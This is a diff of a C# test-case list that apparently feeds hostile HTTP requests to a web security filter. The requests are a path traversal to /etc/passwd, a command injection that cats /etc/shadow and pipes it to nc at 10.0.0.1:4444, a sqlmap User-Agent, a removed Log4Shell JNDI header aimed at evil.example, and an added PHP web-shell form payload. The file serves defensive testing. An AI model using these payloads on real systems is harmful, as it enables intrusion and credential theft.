@@ -31,7 +31,7 @@ internal sealed record TrialCase(TrialKind Kind, string Title, Func<TrialClient,
         Get(TrialKind.Attack, "/api/products?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", "path traversal"),
         Get(TrialKind.Attack, "/search?q=tea%3Bcat%20%2Fetc%2Fshadow%7Cnc%2010.0.0.1%204444", "command injection"),
         Header("/", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner"),
-        Header("/", "X-Api-Version", "${jndi:ldap://evil.example/a}", "Log4Shell, header"),
+        Form(TrialKind.Attack, "PHP injection, form", "x", "<?php system($_GET['c']); ?>"),
     ];
 
     private static TrialCase Get(TrialKind kind, string target, string what) =>
